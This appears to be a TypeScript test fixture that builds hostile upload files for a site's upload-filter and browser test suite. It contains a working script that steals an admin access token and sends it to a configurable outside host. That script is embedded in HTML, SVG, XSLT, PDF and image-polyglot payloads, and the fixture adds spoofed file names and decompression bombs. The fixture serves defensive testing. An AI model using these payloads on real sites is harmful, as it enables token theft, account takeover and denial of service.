import { gzipSync } from 'node:zlib';
import {
  blackPng,
  gif,
  picture,
  webpAnimation,
  withJpegComment,
  withPngText,
} from './picture-bytes.ts';

export interface HostileFile {
  readonly about: string;
  readonly name: string;
  /** What the sender says it is. */
  readonly type: string;
  readonly content: Buffer;
  /** It is a true picture or document: it may be stored, if nothing in it ever runs. */
  readonly isTrue: boolean;
}

/** What every script in here wants: the token of whoever opens the file, sent to `home`. */
export const theft = (home: string) =>
  `document.title='ran';fetch('${home}?ran',{mode:'no-cors'});` +
  `fetch('/admin/access-token',{method:'POST',credentials:'include'}).then(r=>r.text())` +
  `.then(t=>fetch('${home}?'+encodeURIComponent(t),{mode:'no-cors'}))`;

const svgOpening =
  '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 60 40" width="60" height="40">';
const drawing = '<rect width="60" height="40" fill="#1D4A3A"/>';

/**
 * Files that somebody with an editor's account could bring in. Those that are true pictures or
 * documents are taken; the browser suite opens them.
 */
export async function hostileFiles(home: string): Promise<HostileFile[]> {
  const script = theft(home);
  const inAttribute = script.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
  const html = `<!doctype html><title>x</title><script>${script}</script>`;
  const [jpeg, png, webp, avif, tiff] = await Promise.all(
    (['jpeg', 'png', 'webp', 'avif', 'tiff'] as const).map(picture),
  );
  if (!jpeg || !png || !webp || !avif || !tiff) throw new Error('No picture was made.');

  const file =
    (isTrue: boolean) =>
    (about: string, name: string, type: string, content: string | Buffer): HostileFile => ({
      about,
      name,
      type,
      content: typeof content === 'string' ? Buffer.from(content) : content,
      isTrue,
    });
  const refused = file(false);
  const taken = file(true);
  const svg = (about: string, name: string, body: string) =>
    taken(about, name, 'image/svg+xml', `${svgOpening}${drawing}${body}</svg>`);
  const badSvg = (about: string, name: string, content: string) =>
    refused(about, name, 'image/svg+xml', content);

  return [
    // Documents and programs that no page shows.
    refused('a page', 'page.html', 'text/html', html),
    refused('a page that says it is a picture', 'page-2.html', 'image/png', html),
    refused(
      'a page in XML',
      'page.xhtml',
      'application/xhtml+xml',
      `<html xmlns="http://www.w3.org/1999/xhtml"><script>${inAttribute}</script></html>`,
    ),
    refused('a page with a short ending', 'page.htm', 'text/html', html),
    refused('a saved page', 'page.mhtml', 'multipart/related', `MIME-Version: 1.0\r\n\r\n${html}`),
    refused('a script', 'script.js', 'text/javascript', script),
    refused('a module', 'module.mjs', 'text/javascript', script),
    refused('a style sheet', 'style.css', 'text/css', `@import "${home}";`),
    refused('plain text', 'note.txt', 'text/plain', html),
    refused('JSON', 'data.json', 'application/json', '{}'),
    refused(
      'XML that draws itself as a page',
      'feed.xml',
      'text/xml',
      `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><x><xsl:stylesheet id="s" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><script xmlns="http://www.w3.org/1999/xhtml">${inAttribute}</script></xsl:template></xsl:stylesheet></x>`,
    ),
    refused('an archive', 'archive.zip', 'application/zip', 'PK\x03\x04rest'),
    refused('a program', 'setup.exe', 'application/x-msdownload', 'MZ\x90\0rest'),
    refused('Flash', 'film.swf', 'application/x-shockwave-flash', 'FWS\x0arest'),
    refused('WebAssembly', 'part.wasm', 'application/wasm', '\0asm\x01\0\0\0'),
    refused('a film', 'film.mp4', 'video/mp4', '\0\0\0\x18ftypmp42\0\0\0\0mp42isom'),
    refused('a picture that browsers do not show', 'scan.tiff', 'image/tiff', tiff),
    refused('settings of a web server', '.htaccess', 'text/plain', 'AddType text/html .png'),
    refused('nothing at all', 'empty.png', 'image/png', ' '),

    // Names that lie.
    refused('a page named as a photograph', 'fake.jpg', 'image/jpeg', html),
    refused('a script named as a drawing', 'fake.png', 'image/png', script),
    refused('a drawing named as a photograph', 'fake.webp', 'image/webp', `${svgOpening}</svg>`),
    refused('a page named as a drawing', 'fake.svg', 'image/svg+xml', html),
    refused('a page named as a document', 'fake.pdf', 'application/pdf', html),
    refused('a photograph named as a page', 'photo.jpg.html', 'text/html', jpeg),
    refused('a photograph of another kind', 'photo.png', 'image/png', jpeg),
    refused('no ending', 'photo', 'image/jpeg', jpeg),
    refused('a way out of the folder', '../../../photo.png', 'image/png', png),
    refused('a name that reads backwards', 'photo\u202Egnp.exe.png', 'image/png', png),
    refused('a name with a bell', 'photo\x07.png', 'image/png', png),
    taken('two endings, the last one true', 'photo.html.jpg', 'text/html', jpeg),

    // Pictures and documents that are something else as well.
    taken(
      'a GIF that is a script',
      'both.gif',
      'image/gif',
      gif({ width: 0x2a2f, height: 1, comment: `*/=1;document.title='ran';/*` }),
    ),
    taken('a JPEG that holds a page', 'both.jpg', 'image/jpeg', withJpegComment(jpeg, html)),
    taken('a PNG that holds a page', 'both.png', 'image/png', withPngText(png, html)),
    taken(
      'a WebP before a page',
      'both.webp',
      'image/webp',
      Buffer.concat([webp, Buffer.from(html)]),
    ),
    taken(
      'an AVIF before a page',
      'both.avif',
      'text/html',
      Buffer.concat([avif, Buffer.from(html)]),
    ),
    taken('a PDF with a script', 'script.pdf', 'application/pdf', pdf(`app.launchURL('${home}')`)),
    taken('a PDF that is a page', 'page.pdf', 'application/pdf', `%PDF-1.4\n${html}\n%%EOF\n`),
    refused('a PDF without an end', 'cut.pdf', 'application/pdf', `%PDF-1.4\n${html}`),

    // Drawings that run something, or tell somebody that they were seen.
    svg('a drawing with a script', 'script.svg', `<script>${inAttribute}</script>`),
    svg('one with a script in CDATA', 'cdata.svg', `<script><![CDATA[${script}]]></script>`),
    svg('a script from elsewhere', 'outside.svg', `<script xlink:href="${home}"/>`),
    svg(
      'a script under another prefix',
      'prefix.svg',
      `<s:script xmlns:s="http://www.w3.org/2000/svg">${inAttribute}</s:script>`,
    ),
    taken(
      'one that runs when it is shown',
      'onload.svg',
      'image/svg+xml',
      `${svgOpening.replace('<svg', `<svg onload="${inAttribute}"`)}${drawing}</svg>`,
    ),
    svg(
      'one that runs when it is clicked',
      'link.svg',
      `<a xlink:href="javascript:${inAttribute}">${drawing}</a>`,
    ),
    svg(
      'a page inside',
      'foreign.svg',
      `<foreignObject width="60" height="40"><body xmlns="http://www.w3.org/1999/xhtml"><script>${inAttribute}</script><iframe srcdoc="&lt;script&gt;document.title='ran'&lt;/script&gt;"/></body></foreignObject>`,
    ),
    svg('a part from elsewhere', 'use.svg', `<use xlink:href="${home}#a"/>`),
    svg('a picture from elsewhere', 'image.svg', `<image href="${home}" width="9" height="9"/>`),
    svg(
      'styles from elsewhere',
      'style.svg',
      `<style>@import "${home}";rect{fill:url(${home})}</style>`,
    ),
    svg(
      'an address that changes',
      'animate.svg',
      `<a><animate attributeName="href" values="javascript:${inAttribute}"/>${drawing}</a>`,
    ),
    svg(
      'a handler in an animation',
      'set.svg',
      `<set onbegin="${inAttribute}" attributeName="x"/>`,
    ),
    taken(
      'a style sheet that draws it as a page',
      'sheet.svg',
      'image/svg+xml',
      `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${home}"?>${svgOpening}${drawing}</svg>`,
    ),
    badSvg('a drawing that is not whole', 'broken.svg', `${svgOpening}<g onload="${inAttribute}">`),
    badSvg(
      'words that grow',
      'entities.svg',
      `<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>${svgOpening}<text>&b;</text></svg>`,
    ),
    refused(
      'a packed drawing',
      'packed.svg',
      'image/svg+xml',
      gzipSync(`${svgOpening}${drawing}</svg>`),
    ),

    // Bombs: small to send, huge to open.
    refused('15,000 × 15,000 pixels', 'bomb.png', 'image/png', blackPng(15_000, 15_000)),
    refused(
      '65,000 × 65,000 pixels',
      'bomb.gif',
      'image/gif',
      gif({ width: 65_000, height: 65_000 }),
    ),
    refused(
      '5,000 frames',
      'frames.gif',
      'image/gif',
      gif({ width: 1000, height: 1000, frames: 5000 }),
    ),
    refused(
      '300 frames of 2,000 × 2,000',
      'frames.webp',
      'image/webp',
      await webpAnimation(2000, 300),
    ),
    badSvg(
      'a drawing of 100,000 × 100,000',
      'bomb.svg',
      `<svg xmlns="http://www.w3.org/2000/svg" width="100000" height="100000">${drawing}</svg>`,
    ),
    badSvg(
      '50,000 groups, each in the other',
      'deep.svg',
      `${svgOpening}${'<g>'.repeat(50_000)}${'</g>'.repeat(50_000)}</svg>`,
    ),
    badSvg('parts that repeat one another', 'repeat.svg', `${svgOpening}${doublings(40)}</svg>`),
    refused(
      'more bytes than allowed',
      'heavy.png',
      'image/png',
      Buffer.concat([png, Buffer.alloc(21_000_000)]),
    ),
  ];
}

/** Each group shows the one before it twice. */
const doublings = (times: number) =>
  `${Array.from({ length: times }, (_, index) => {
    const use = `<use xlink:href="#g${index}"/>`;
    return `<g id="g${index + 1}">${use}${use}</g>`;
  }).join('')}<g id="g0"><rect width="1" height="1"/></g>`;

const pdf = (script: string) => `%PDF-1.4
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(${script})>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj
trailer<</Root 1 0 R>>
%%EOF
`;
